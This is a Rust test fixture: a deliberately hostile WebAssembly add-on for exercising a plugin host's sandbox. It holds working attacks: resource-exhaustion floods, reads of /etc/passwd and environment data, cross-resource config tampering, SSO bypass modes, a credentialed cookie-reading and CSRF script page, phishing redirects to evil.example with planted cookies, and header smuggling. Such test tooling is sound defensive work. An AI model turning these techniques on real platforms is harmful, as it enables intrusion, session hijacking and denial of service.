//! A test-only add-on that attacks its host. `addons:create hostile -- --attack X`
//! picks the attack run inside `provision` (`--count N` and `--size BYTES`
//! size the floods; `--attack slow --ms N` is no attack: it takes N ms, then
//! succeeds); `rotate` probes the config capability with the names and ids
//! given at provisioning (`--read`, `--foreign`, `--write`) and reports
//! what it saw in `HOSTILE_SEEN`. Its HTTP routes attack from the other side:
//! a page whose script goes after the dashboard (`/attack`), a route that
//! holds its instance until the deadline (`/sleep`), one that echoes what the
//! host forwarded (`/headers`), one that lies about its framing
//! (`/desync`), one that tries to remember what earlier calls left in its
//! memory (`/remember`) and one that calls out while serving a user
//! (`/fetch`); `/marker` says which build answers. `--attack pending`
//! answers provisioning later: `POST /complete/<id>` completes it,
//! `POST /fail/<id>` fails it with the body as the reason. Outbound attacks (`--attack fetch --url U`,
//! `fetch-many`, `fetch-parallel`) aim at hosts the add-on did not declare,
//! names that resolve to the loopback, slow and huge upstreams, and the
//! call's request budgets.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

use addonhost_sdk::host::{config, kv};
use addonhost_sdk::http::{fetch, Handler, Outgoing, Request, Response};
use addonhost_sdk::manifest::Manifest;
use addonhost_sdk::sso;
use addonhost_sdk::{
    store, AddonError, Config, Credentials, Lifecycle, Login, ProvisionRequest, ProvisionResult,
    Provisioned, Sso, Verdict,
};
use serde::{Deserialize, Serialize};

struct Hostile;

#[derive(Serialize, Deserialize, Default)]
struct Probe {
    /// Var names to read (`--read A,B`).
    read: Vec<String>,
    /// Another resource's add-on id to read and write (`--foreign ID`).
    foreign: Option<String>,
    /// `NAME=VALUE` pairs to write (`--write A=1,B=2`).
    write: Vec<(String, String)>,
    /// Make every rotation fail (`--rotate-fail true`).
    #[serde(default)]
    rotate_fail: bool,
    /// How `sso.verify` misbehaves (`--sso hang|yes|token-only`).
    #[serde(default)]
    sso: Option<String>,
    /// Rotations read, sleep this long, then write the credential record
    /// (`--slow-rotate-ms N`).
    #[serde(default)]
    slow_rotate_ms: Option<u64>,
    /// Rotations take this long, touching nothing (`--rotate-sleep-ms N`).
    #[serde(default)]
    rotate_sleep_ms: Option<u64>,
    /// The resource's URL, for a pending provisioning completed later.
    #[serde(default)]
    url: Option<String>,
}

/// Reads the credential record, sleeps `ms`, writes it back one version
/// further: what a rotation and a partner-initiated roll both do.
fn bump_credential(ms: u64) -> u64 {
    let version = kv::get("cred/version")
        .and_then(|v| String::from_utf8(v).ok())
        .and_then(|v| v.parse::<u64>().ok())
        .unwrap_or(0);
    std::thread::sleep(std::time::Duration::from_millis(ms));
    let next = version + 1;
    let _ = kv::set("cred/version", next.to_string().as_bytes());
    next
}

/// What a fetched response was, short enough for a config var.
fn seen_response(response: &Response) -> String {
    let body = response.body_text();
    let cut: String = body.chars().take(2000).collect();
    format!("status {}: {cut}", response.status)
}

/// Sends `count` GETs to `url` (`http://authority/path`) without waiting
/// for any, then reads every answer as it arrives; the number answered.
fn fetch_parallel(url: &str, count: u64) -> Result<u64, String> {
    use addonhost_sdk::wasip2::http::outgoing_handler;
    use addonhost_sdk::wasip2::http::types::{Fields, OutgoingBody, OutgoingRequest, Scheme};
    let rest = url.strip_prefix("http://").ok_or("--url must be http://")?;
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let mut pending = Vec::new();
    for _ in 0..count {
        let request = OutgoingRequest::new(Fields::new());
        request.set_scheme(Some(&Scheme::Http)).ok();
        request.set_authority(Some(authority)).ok();
        request.set_path_with_query(Some(path)).ok();
        let body = request.body().map_err(|_| "no request body")?;
        let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
        OutgoingBody::finish(body, None).map_err(|e| format!("{e:?}"))?;
        pending.push(future);
    }
    let mut answered = 0;
    while !pending.is_empty() {
        let pollables: Vec<_> = pending.iter().map(|f| f.subscribe()).collect();
        let ready = addonhost_sdk::wasip2::io::poll::poll(&pollables.iter().collect::<Vec<_>>());
        drop(pollables);
        let mut ready: Vec<usize> = ready.into_iter().map(|i| i as usize).collect();
        ready.sort_unstable_by(|a, b| b.cmp(a));
        for i in ready {
            let future = pending.swap_remove(i);
            let response = future
                .get()
                .ok_or("not ready")?
                .map_err(|_| "taken")?
                .map_err(|e| format!("{e:?}"))?;
            let incoming = response.consume().map_err(|_| "no body")?;
            let stream = incoming.stream().map_err(|_| "no body stream")?;
            while stream.blocking_read(64 << 10).is_ok() {}
            drop(stream);
            drop(incoming);
            answered += 1;
        }
    }
    Ok(answered)
}

/// A query parameter as a number.
fn query_number(req: &Request, key: &str, default: u64) -> u64 {
    addonhost_sdk::http::parse_query(&req.query)
        .into_iter()
        .find(|(k, _)| k == key)
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(default)
}

/// A numeric option (`--count 100`), or `default`.
fn number(req: &ProvisionRequest, key: &str, default: u64) -> u64 {
    option(req, key)
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn option<'a>(req: &'a ProvisionRequest, key: &str) -> Option<&'a str> {
    req.options
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
}

fn list(value: Option<&str>) -> Vec<String> {
    value
        .map(|v| {
            v.split(',')
                .filter(|s| !s.is_empty())
                .map(String::from)
                .collect()
        })
        .unwrap_or_default()
}

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(n: u64) -> u64 {
    // Work after the call keeps it from becoming a loop; no locals in
    // linear memory, so this exhausts the wasm stack itself.
    recurse(n.wrapping_add(1)).rotate_left(1) ^ n
}

/// Tries every ambient capability a native process would have.
fn probe_ambient() -> BTreeMap<String, String> {
    let mut seen = BTreeMap::new();
    let fs = ["/", ".", "/etc/passwd", "/proc/self/environ"]
        .iter()
        .map(|p| match std::fs::read_dir(p) {
            Ok(d) => format!("{p}: {} entries", d.count()),
            Err(e) => match std::fs::read(p) {
                Ok(b) => format!("{p}: read {} bytes", b.len()),
                Err(_) => format!("{p}: {e}"),
            },
        })
        .collect::<Vec<_>>()
        .join("; ");
    seen.insert("fs".into(), fs);
    let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    seen.insert("env".into(), format!("{} vars {:?}", env.len(), env));
    seen.insert(
        "args".into(),
        format!("{:?}", std::env::args().collect::<Vec<_>>()),
    );
    let net = ["127.0.0.1:22", "127.0.0.1:5000", "1.1.1.1:80"]
        .iter()
        .map(|a| match std::net::TcpStream::connect(a) {
            Ok(_) => format!("{a}: connected"),
            Err(e) => format!("{a}: {e}"),
        })
        .collect::<Vec<_>>()
        .join("; ");
    seen.insert("net".into(), net);
    let dns = match std::net::ToSocketAddrs::to_socket_addrs(&("example.com", 80)) {
        Ok(a) => format!("resolved {} addresses", a.count()),
        Err(e) => e.to_string(),
    };
    seen.insert("dns".into(), dns);
    seen.insert("http".into(), outbound_http());
    seen
}

/// Tries an outbound request through wasi:http.
fn outbound_http() -> String {
    use addonhost_sdk::wasip2::http::{outgoing_handler, types};
    let req = types::OutgoingRequest::new(types::Fields::new());
    let _ = req.set_scheme(Some(&types::Scheme::Http));
    let _ = req.set_authority(Some("127.0.0.1:5000"));
    let _ = req.set_path_with_query(Some("/healthz"));
    match outgoing_handler::handle(req, None) {
        Err(e) => format!("refused: {e:?}"),
        Ok(future) => {
            future.subscribe().block();
            match future.get() {
                Some(Ok(Ok(resp))) => format!("connected: status {}", resp.status()),
                Some(Ok(Err(e))) => format!("refused: {e:?}"),
                other => format!("refused: {other:?}"),
            }
        }
    }
}

impl Lifecycle for Hostile {
    fn provision(req: ProvisionRequest) -> Result<ProvisionResult, AddonError> {
        let id = format!("hostile-{}", &req.uuid[..8]);
        let url = format!("{}/{id}", req.base_url);
        let mut cfg: Config = vec![("HOSTILE_URL".into(), url.clone())];
        match option(&req, "attack").unwrap_or("none") {
            "none" | "pending" => {}
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "recursion" => {
                let depth = std::hint::black_box(1u64);
                cfg.push(("HOSTILE_SEEN".into(), recurse(depth).to_string()));
            }
            "trap" => panic!("hostile add-on panicked on purpose"),
            "sleep" => loop {
                std::thread::sleep(std::time::Duration::from_secs(3600));
            },
            // Not an attack: a provisioning that takes `--ms` (1000 by
            // default) and then succeeds, to hold a request in flight.
            "slow" => {
                std::thread::sleep(std::time::Duration::from_millis(number(&req, "ms", 1000)))
            }
            "huge" => cfg.push(("HOSTILE_SEEN".into(), "x".repeat(16 << 20))),
            "bad-url" => cfg[0].1 = "not a url".into(),
            // A URL carrying its password that does not parse (a space in
            // the host): the refusal must not repeat the password.
            "bad-url-secret" => cfg[0].1 = "postgres://admin:s3cr3t-pw-42@db host:5432/x".into(),
            "unlisted-var" => cfg.push(("DATABASE_URL".into(), "postgres://evil@db/x".into())),
            "ambient" => {
                let seen = probe_ambient();
                cfg.push(("HOSTILE_SEEN".into(), serde_json::to_string(&seen).unwrap()));
            }
            // Host-side budgets: what the host buffers on the call's behalf.
            "kv-flood" => {
                let (count, size) = (number(&req, "count", 3000), number(&req, "size", 1 << 20));
                let value = vec![7u8; size as usize];
                let mut stored = 0;
                for i in 0..count {
                    if kv::set(&format!("flood/{}/{i}", &req.uuid[..8]), &value).is_ok() {
                        stored += 1;
                    }
                }
                cfg.push(("HOSTILE_SEEN".into(), format!("stored {stored} values")));
            }
            "log-flood" => {
                let line = "x".repeat(number(&req, "size", 4000) as usize);
                for _ in 0..number(&req, "count", 200_000) {
                    addonhost_sdk::host::log::log(addonhost_sdk::host::Level::Error, &line);
                }
            }
            "refusal-flood" => {
                for i in 0..number(&req, "count", 200_000) {
                    let _ = config::update(
                        &format!("no-such-resource-{i}"),
                        &[("HOSTILE_URL".into(), Some("x".repeat(1000)))],
                        &"r".repeat(1000),
                    );
                }
            }
            "kv-ops" => {
                for i in 0..number(&req, "count", 10_000_000) {
                    std::hint::black_box(kv::get(&format!("k{}", i % 1000)));
                }
            }
            "list-keys" => {
                let keys = kv::list_keys("");
                cfg.push(("HOSTILE_SEEN".into(), format!("listed {} keys", keys.len())));
            }
            "sockets" => {
                use addonhost_sdk::wasip2::sockets::{network::IpAddressFamily, tcp_create_socket};
                let mut held = Vec::new();
                let mut last = String::from("none");
                for _ in 0..number(&req, "count", 100_000) {
                    match tcp_create_socket::create_tcp_socket(IpAddressFamily::Ipv4) {
                        Ok(s) => held.push(s),
                        Err(e) => {
                            last = format!("{e:?}");
                            break;
                        }
                    }
                }
                cfg.push((
                    "HOSTILE_SEEN".into(),
                    format!("created {} sockets; then {last}", held.len()),
                ));
            }
            "resources" => {
                use addonhost_sdk::wasip2::http::types::Fields;
                let mut held = Vec::new();
                for _ in 0..number(&req, "count", 2_000_000) {
                    held.push(Fields::new());
                }
                cfg.push((
                    "HOSTILE_SEEN".into(),
                    format!("held {} resources", held.len()),
                ));
            }
            "stderr-flood" => {
                use std::io::Write;
                let mut err = std::io::stderr();
                for i in 0..20_000 {
                    let _ = writeln!(err, "chatter line {i} that fills the host's stderr buffer");
                }
                panic!("the last words after a lot of chatter");
            }
            // Outbound HTTP through the SDK's client: one request to
            // `--url` (`--follow false`: a redirect comes back as it is),
            // its answer in HOSTILE_SEEN, its error the call's.
            "fetch" => {
                let mut request = Outgoing::get(option(&req, "url").unwrap_or_default());
                if option(&req, "follow") == Some("false") {
                    request = request.no_redirects();
                }
                let response = fetch(request).map_err(|e| AddonError::new(e.to_string()))?;
                cfg.push(("HOSTILE_SEEN".into(), seen_response(&response)));
            }
            // `--count` requests to `--url` all at once, straight through
            // wasi:http: each answer read as it comes.
            "fetch-parallel" => {
                let url = option(&req, "url").unwrap_or_default();
                let count = number(&req, "count", 20);
                let answered = fetch_parallel(url, count).map_err(AddonError::new)?;
                cfg.push(("HOSTILE_SEEN".into(), format!("{answered} answered")));
            }
            // `--count` requests to `--url`, one after the other.
            "fetch-many" => {
                let url = option(&req, "url").unwrap_or_default();
                let count = number(&req, "count", 1000);
                for i in 0..count {
                    fetch(Outgoing::get(url))
                        .map_err(|e| AddonError::new(format!("request {i}: {e}")))?;
                }
                cfg.push(("HOSTILE_SEEN".into(), format!("made {count} requests")));
            }
            other => return Err(AddonError::new(format!("unknown attack {other:?}"))),
        }
        let probe = Probe {
            read: list(option(&req, "read")),
            foreign: option(&req, "foreign").map(String::from),
            write: list(option(&req, "write"))
                .into_iter()
                .filter_map(|kv| kv.split_once('=').map(|(k, v)| (k.into(), v.into())))
                .collect(),
            rotate_fail: option(&req, "rotate-fail") == Some("true"),
            sso: option(&req, "sso").map(String::from),
            slow_rotate_ms: option(&req, "slow-rotate-ms").and_then(|v| v.parse().ok()),
            rotate_sleep_ms: option(&req, "rotate-sleep-ms").and_then(|v| v.parse().ok()),
            url: Some(url),
        };
        store::put(&format!("probe/{id}"), &probe)?;
        if option(&req, "attack") == Some("pending") {
            // Answered later (or never): stays provisioning.
            return Ok(ProvisionResult::Pending(addonhost_sdk::Pending {
                id,
                message: None,
            }));
        }
        Ok(ProvisionResult::Provisioned(Provisioned {
            id,
            config: cfg,
            message: None,
        }))
    }

    fn deprovision(id: String) -> Result<(), AddonError> {
        addonhost_sdk::host::kv::delete(&format!("probe/{id}"));
        Ok(())
    }

    fn change_plan(_id: String, _plan: String) -> Result<Option<Config>, AddonError> {
        Ok(None)
    }
}

impl Credentials for Hostile {
    /// Probes the config capability and reports every answer in HOSTILE_SEEN.
    fn rotate(id: String) -> Result<Config, AddonError> {
        // Every call is recorded in the host's log, whatever becomes of it
        // (a test counts the calls, not only the rotations committed).
        addonhost_sdk::info(&format!("hostile rotate called for {id}"));
        let probe: Probe = store::get(&format!("probe/{id}"))?.unwrap_or_default();
        if probe.rotate_fail {
            return Err(AddonError::new("the credential service is unreachable"));
        }
        if let Some(ms) = probe.slow_rotate_ms {
            // Read the credential record, take a while, write it back: a
            // rotation racing the `/roll` route.
            bump_credential(ms);
        }
        if let Some(ms) = probe.rotate_sleep_ms {
            std::thread::sleep(std::time::Duration::from_millis(ms));
        }
        let mut seen = BTreeMap::new();
        for name in &probe.read {
            seen.insert(
                format!("get {name}"),
                format!("{:?}", config::get(&id, name)),
            );
        }
        seen.insert("list own".into(), format!("{:?}", config::list(&id)));
        if let Some(other) = &probe.foreign {
            // Completing or failing another resource's pending provisioning
            // from a call about this one.
            let completed = config::complete(other, &[], Some("completed by a neighbour"));
            seen.insert("complete foreign".into(), format!("{completed:?}"));
            let failed = config::fail(other, "failed by a neighbour");
            seen.insert("fail foreign".into(), format!("{failed:?}"));
            seen.insert("list foreign".into(), format!("{:?}", config::list(other)));
            for name in &probe.read {
                seen.insert(
                    format!("get foreign {name}"),
                    format!("{:?}", config::get(other, name)),
                );
            }
        }
        for (name, value) in &probe.write {
            let r = config::update(&id, &[(name.clone(), Some(value.clone()))], "probe");
            seen.insert(format!("write {name}"), format!("{r:?}"));
            if let Some(other) = &probe.foreign {
                let r = config::update(other, &[(name.clone(), Some(value.clone()))], "probe");
                seen.insert(format!("write foreign {name}"), format!("{r:?}"));
            }
        }
        let own = config::get(&id, "HOSTILE_URL").unwrap_or_default();
        Ok(vec![
            ("HOSTILE_URL".into(), own),
            ("HOSTILE_SEEN".into(), serde_json::to_string(&seen).unwrap()),
        ])
    }
}

impl Sso for Hostile {
    /// `--sso hang` never answers; `--sso yes` lets anyone in (a bug the
    /// host cannot fix, but whose session must still open only this add-on);
    /// `--sso token-only` checks the freshness and `token` but ignores
    /// `resource_token` (a bug `plugins:check` must catch).
    fn verify(login: Login) -> Verdict {
        let probe: Probe = store::get(&format!("probe/{}", login.id))
            .ok()
            .flatten()
            .unwrap_or_default();
        match probe.sso.as_deref() {
            Some("hang") => loop {
                std::hint::black_box(());
            },
            Some("yes") => Verdict::Ok(addonhost_sdk::Session {
                user: login.email,
                landing: format!("/dashboard/{}", login.id),
            }),
            Some("token-only") => {
                let salt = Manifest::embedded(include_str!("../addon-manifest.json"))
                    .api
                    .sso_salt;
                match sso::check_token(
                    &login.id,
                    &salt,
                    login.timestamp,
                    &login.token,
                    addonhost_sdk::now(),
                ) {
                    Ok(()) => Verdict::Ok(addonhost_sdk::Session {
                        user: login.email,
                        landing: format!("/dashboard/{}", login.id),
                    }),
                    Err(denied) => Verdict::Denied(denied.to_string()),
                }
            }
            _ => Verdict::Denied("the hostile add-on has no dashboard".into()),
        }
    }
}

/// The page a browser signed in to the dashboard may open: its script tries to
/// read platform pages and to make state-changing requests, and writes what
/// happened into `#result` (which stays "not run" where scripts cannot run).
const ATTACK_PAGE: &str = r#"<!doctype html><html><head><meta charset="utf-8"><title>hostile</title></head>
<body><pre id="result">not run</pre>
<script>
(async () => {
  const out = {};
  // The platform's address, as an attacker would guess it: the same port
  // on the loopback.
  const platform = new URLSearchParams(location.search).get('platform')
    || ('http://127.0.0.1:' + location.port);
  const app = new URLSearchParams(location.search).get('app') || 'shop';
  const attempt = async (name, f) => {
    try { out[name] = await f(); } catch (e) { out[name] = 'blocked: ' + e; }
  };
  await attempt('same-origin app page', async () => {
    const r = await fetch('/apps/' + app, {credentials: 'include'});
    return r.status + ' ' + (await r.text()).slice(0, 4000);
  });
  await attempt('platform app page', async () => {
    const r = await fetch(platform + '/apps/' + app, {credentials: 'include'});
    return r.status + ' ' + (await r.text()).slice(0, 4000);
  });
  await attempt('platform api', async () => {
    const r = await fetch(platform + '/api/apps/' + app + '/config', {credentials: 'include'});
    return r.status + ' ' + (await r.text()).slice(0, 4000);
  });
  await attempt('rotate', async () => {
    const r = await fetch(platform + '/apps/' + app + '/addons/KV/rotate',
      {method: 'POST', credentials: 'include', mode: 'no-cors',
       headers: {'content-type': 'application/x-www-form-urlencoded'}, body: ''});
    return 'sent (' + r.type + ')';
  });
  await attempt('cookie', async () => document.cookie);
  await attempt('headers seen by the add-on', async () => {
    const own = location.pathname.startsWith('/addons/hostile/') ? '/addons/hostile' : '';
    return (await (await fetch(own + '/headers', {credentials: 'include'})).text()).slice(0, 4000);
  });
  document.getElementById('result').textContent = JSON.stringify(out);
})();
</script></body></html>"#;

/// What `/remember` leaves behind for the next call to find: a counter, a
/// buffer in the memory image (data segment, every byte 7), a zeroed one
/// (.bss, 8 MiB) and memory grown past the initial size. A fresh instance
/// per call must show every one pristine.
static CALLS: AtomicU64 = AtomicU64::new(0);
static IMAGE: Mutex<[u8; 256 << 10]> = Mutex::new([7; 256 << 10]);
static ZEROED: Mutex<[u8; 8 << 20]> = Mutex::new([0; 8 << 20]);

/// Counts what earlier calls could have left, then leaves as much behind.
fn remember() -> Response {
    let calls_before = CALLS.fetch_add(1, Ordering::SeqCst);
    let mut image = IMAGE.lock().unwrap();
    let image_residue = image.iter().filter(|b| **b != 7).count();
    image.fill(0xa5);
    let mut zeroed = ZEROED.lock().unwrap();
    let zeroed_residue = zeroed.iter().filter(|b| **b != 0).count();
    zeroed.fill(0xa5);
    // Two fresh WebAssembly pages' worth (2 MiB) grown now: a new memory's
    // pages read as zero, whatever a previous call wrote at that address.
    let pages = 32;
    let first = core::arch::wasm32::memory_grow(0, pages);
    let grown_residue = if first == usize::MAX {
        usize::MAX
    } else {
        // SAFETY: the pages were just grown and nothing else knows of them
        // (the allocator grows memory past them if it needs more).
        let grown =
            unsafe { std::slice::from_raw_parts_mut((first << 16) as *mut u8, pages << 16) };
        let residue = grown.iter().filter(|b| **b != 0).count();
        grown.fill(0xa5);
        residue
    };
    let seen = serde_json::json!({
        "calls_before": calls_before,
        "image_residue": image_residue,
        "zeroed_residue": zeroed_residue,
        "grown_residue": grown_residue,
    });
    Response::new(200, "application/json", seen.to_string().into_bytes())
}

/// Which build of the add-on is serving, as `/marker` answers it. A test
/// rewrites the digits in the built component (same length, so the
/// component stays valid) to make builds that answer differently.
static BUILD_MARKER: &[u8; 32] = b"addonhost-build-marker:000000000";

impl Handler for Hostile {
    fn handle(req: Request) -> Response {
        match req.segments().as_slice() {
            // The SSO landing (`--sso yes`) is the attack page too.
            ["attack"] | ["dashboard", ..] => Response::html(200, ATTACK_PAGE),
            ["sleep"] => loop {
                std::thread::sleep(std::time::Duration::from_secs(3600));
            },
            ["headers"] => {
                let headers: BTreeMap<String, String> = req
                    .headers
                    .iter()
                    .map(|(k, v)| (k.to_ascii_lowercase(), String::from_utf8_lossy(v).into()))
                    .collect();
                let seen = serde_json::to_vec(&headers).unwrap();
                // Kept, so a test can read what the host forwarded even when
                // the response goes elsewhere.
                let _ = kv::set("seen/headers", &seen);
                Response::new(200, "application/json", seen)
            }
            // Framing the host must not trust: a body larger than the
            // declared length, and hop-by-hop headers.
            // Read, take a while, write: concurrent requests race, and only
            // the host can keep them from losing updates.
            ["counter"] => {
                let ms = query_number(&req, "ms", 200);
                let n = kv::get("counter")
                    .and_then(|v| String::from_utf8(v).ok())
                    .and_then(|v| v.parse::<u64>().ok())
                    .unwrap_or(0);
                std::thread::sleep(std::time::Duration::from_millis(ms));
                let _ = kv::set("counter", (n + 1).to_string().as_bytes());
                Response::text(200, (n + 1).to_string())
            }
            // A plan limit checked by counting, like kv's key quota.
            ["quota"] => {
                let (limit, ms) = (
                    query_number(&req, "limit", 10),
                    query_number(&req, "ms", 200),
                );
                let used = kv::count_keys("q/");
                std::thread::sleep(std::time::Duration::from_millis(ms));
                if used >= limit {
                    return Response::text(507, "full\n");
                }
                let key = format!("q/{}", addonhost_sdk::credentials::hex_id(8));
                let _ = kv::set(&key, b"1");
                Response::text(201, key)
            }
            // The partner-initiated side of the credential race.
            ["roll"] => Response::text(
                200,
                bump_credential(query_number(&req, "ms", 200)).to_string(),
            ),
            // Fetches `?url=` while serving a user's request: whatever the
            // user's request carried, only what the add-on sets goes out.
            ["fetch"] => {
                let url = addonhost_sdk::http::parse_query(&req.query)
                    .into_iter()
                    .find(|(k, _)| k == "url")
                    .map(|(_, v)| v)
                    .unwrap_or_default();
                match fetch(Outgoing::get(&url)) {
                    Ok(r) => Response::text(200, seen_response(&r)),
                    Err(e) => Response::text(502, e.to_string()),
                }
            }
            ["remember"] => remember(),
            // Read through black_box: the bytes are read from the data
            // segment on every call, never folded into the code.
            ["marker"] => Response::new(
                200,
                "text/plain",
                std::hint::black_box(BUILD_MARKER).to_vec(),
            ),
            // Headers that act on the browser or the origin answering them:
            // on the platform's origin a redirect elsewhere, a timed
            // redirect, wiping the dashboard's cookies and storage, a
            // download, a credentials prompt, other origins let in.
            ["headers-out"] => Response::text(302, "hostile headers\n")
                .with_header("location", "https://evil.example/phish")
                .with_header("refresh", "0; url=https://evil.example/phish")
                .with_header("clear-site-data", "\"cookies\", \"storage\"")
                .with_header("set-cookie", "addonhost_session=planted; Path=/")
                .with_header(
                    "link",
                    "<https://evil.example/x.js>; rel=preload; as=script",
                )
                .with_header("content-disposition", "attachment; filename=invoice.exe")
                .with_header("www-authenticate", "Basic realm=\"addonhost platform\"")
                .with_header("access-control-allow-origin", "https://evil.example")
                .with_header("access-control-allow-credentials", "true")
                .with_header("x-hostile", "yes")
                .with_header("cache-control", "no-store")
                .with_header("etag", "\"v1\""),
            ["desync"] => Response::text(200, "HTTP/1.1 200 OK\r\nx-smuggled: yes\r\n\r\n")
                .with_header("content-length", "0"),
            // The partner answering a pending provisioning, as a provider's
            // own machinery would once the resource is ready (or is not).
            ["complete", id] => {
                let probe: Probe = store::get(&format!("probe/{id}"))
                    .ok()
                    .flatten()
                    .unwrap_or_default();
                let config = probe
                    .url
                    .map(|u| vec![("HOSTILE_URL".to_string(), u)])
                    .unwrap_or_default();
                match config::complete(id, &config, Some("completed by the partner")) {
                    Ok(()) => Response::text(200, "completed\n"),
                    Err(e) => Response::text(409, format!("{e}\n")),
                }
            }
            ["fail", id] => {
                let reason = String::from_utf8_lossy(&req.body).into_owned();
                match config::fail(id, &reason) {
                    Ok(()) => Response::text(200, "failed\n"),
                    Err(e) => Response::text(409, format!("{e}\n")),
                }
            }
            // Connection handling is the host's, not the add-on's.
            ["hop"] => Response::text(200, "HTTP/1.1 200 OK\r\nx-smuggled: yes\r\n\r\n")
                .with_header("connection", "close, x-smuggled")
                .with_header("x-smuggled", "yes")
                .with_header("keep-alive", "timeout=999")
                .with_header("upgrade", "h2c")
                .with_header("trailer", "x-late")
                .with_header("proxy-connection", "close"),
            _ => Response::text(404, "no such hostile route\n"),
        }
    }
}

addonhost_sdk::export_addon!(Hostile);
addonhost_sdk::export_http!(Hostile);
